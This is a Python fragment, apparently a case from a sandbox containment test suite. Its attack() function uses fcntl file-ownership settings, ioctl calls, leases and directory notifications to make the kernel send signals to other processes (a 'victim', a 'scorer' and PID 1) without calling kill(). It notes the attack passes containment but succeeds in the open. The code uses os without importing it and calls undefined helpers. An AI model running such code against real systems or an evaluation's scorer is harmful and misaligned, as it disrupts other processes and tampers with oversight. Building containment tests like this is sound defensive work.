# Signals others by way of files: a descriptor's owner gets SIGIO, or any signal chosen, when it is ready.
# The kernel sends it, and kill() is never called.
# contained: passed
# in the open: succeeds
import fcntl
import signal
import socket


def attack():
    set_owner, set_signal, set_owner_ex = 8, 10, 15

    def by_owner(pid):
        ours, theirs = socket.socketpair()
        fcntl.fcntl(ours, set_signal, int(signal.SIGURG))
        fcntl.fcntl(ours, set_owner, pid)
        fcntl.fcntl(ours, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
        theirs.send(b"x")
        return f"owner is {pid}"

    def by_owner_ex(kind, pid):
        ours, _ = socket.socketpair()
        fcntl.fcntl(ours, set_owner_ex, kind.to_bytes(4, "little") + pid.to_bytes(4, "little"))
        return f"owner is {pid}"

    def by_ioctl(request, pid):
        ours, _ = socket.socketpair()
        fcntl.ioctl(ours, request, pid.to_bytes(4, "little"))
        return f"owner is {pid}"

    others = [TARGET["victim"], TARGET["scorer"], 1]
    return first(
        {
            **{f"owner {pid}": lambda pid=pid: by_owner(pid) for pid in others},
            **{
                f"owner_ex {k} {p}": lambda k=k, p=p: by_owner_ex(k, p)
                for k in (0, 1, 2)
                for p in others
            },
            **{
                f"ioctl {r:x} {p}": lambda r=r, p=p: by_ioctl(r, p)
                for r in (0x8901, 0x8902)
                for p in others
            },
            "lease": lambda: fcntl.fcntl(os.open(os.__file__, os.O_RDONLY), 1024, fcntl.F_RDLCK),
            "folder": lambda: fcntl.fcntl(os.open("/tmp", os.O_RDONLY), 1026, 1),
        }
    )
